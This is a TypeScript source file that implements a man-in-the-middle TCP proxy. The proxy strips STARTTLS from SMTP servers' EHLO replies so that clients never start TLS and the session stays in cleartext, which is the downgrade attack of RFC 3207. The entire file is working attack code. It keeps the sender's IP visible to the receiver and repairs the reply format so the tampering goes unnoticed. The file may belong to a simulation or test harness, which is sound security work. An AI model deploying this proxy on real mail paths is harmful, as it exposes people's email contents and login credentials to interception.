import { connect, createServer, type AddressInfo, type Server, type Socket } from 'node:net';

export interface StripStartTlsOptions {
  /** Where the proxy listens (the receiving node's address, another port). */
  listenAddress: string;
  /** The real receiver. */
  target: { ip: string; port: number };
  /** The proxy connects onward from this address, so the receiver still sees the sender's IP. */
  localAddress?: string;
  /** Called each time STARTTLS was removed from an EHLO reply. */
  onStrip(client: { ip: string; port: number }): void;
}

/**
 * Removes `STARTTLS` from a multi-line 250 reply, fixing the continuation marks so the reply
 * stays well formed ("250-STARTTLS" dropped; a last "250 STARTTLS" makes the line before it last).
 */
export function stripStartTlsLine(reply: string[]): { lines: string[]; stripped: boolean } {
  const kept = reply.filter((l) => !/^250[- ]STARTTLS\s*$/i.test(l));
  if (kept.length === reply.length) return { lines: reply, stripped: false };
  const lines = kept.map((l, i) => (i === kept.length - 1 ? l.replace(/^(\d{3})-/, '$1 ') : l));
  return { lines, stripped: true };
}

/**
 * A man in the middle on the path between two nodes: it passes everything through but takes
 * STARTTLS out of the server's EHLO reply, so the client never sees it offered (RFC 3207 §6's
 * downgrade attack). Since the client then never starts TLS, the whole session stays readable
 * line by line.
 */
export class StripStartTlsProxy {
  private readonly server: Server;
  private readonly sockets = new Set<Socket>();

  constructor(private readonly o: StripStartTlsOptions) {
    this.server = createServer((client) => this.handle(client));
    this.server.on('error', () => undefined);
  }

  async listen(): Promise<number> {
    await new Promise<void>((resolve, reject) => {
      this.server.once('error', reject);
      this.server.listen(0, this.o.listenAddress, () => {
        this.server.removeListener('error', reject);
        resolve();
      });
    });
    return (this.server.address() as AddressInfo).port;
  }

  private handle(client: Socket): void {
    const upstream = connect({ host: this.o.target.ip, port: this.o.target.port, localAddress: this.o.localAddress });
    for (const s of [client, upstream]) {
      this.sockets.add(s);
      s.on('close', () => this.sockets.delete(s));
      s.on('error', () => undefined);
    }
    client.on('close', () => upstream.destroy());
    upstream.on('close', () => client.destroy());
    client.pipe(upstream);
    let pending = '';
    let group: string[] = [];
    upstream.on('data', (chunk: Buffer) => {
      pending += chunk.toString('latin1');
      let nl: number;
      while ((nl = pending.indexOf('\n')) >= 0) {
        const line = pending.slice(0, nl).replace(/\r$/, '');
        pending = pending.slice(nl + 1);
        group.push(line);
        if (/^\d{3}-/.test(line)) continue; // a multi-line reply goes on
        const { lines, stripped } = stripStartTlsLine(group);
        group = [];
        if (stripped) this.o.onStrip({ ip: (client.remoteAddress ?? '').replace(/^::ffff:/, ''), port: client.remotePort ?? 0 });
        client.write(Buffer.from(lines.map((l) => `${l}\r\n`).join(''), 'latin1'));
      }
    });
  }

  async close(): Promise<void> {
    for (const s of this.sockets) s.destroy();
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }
}
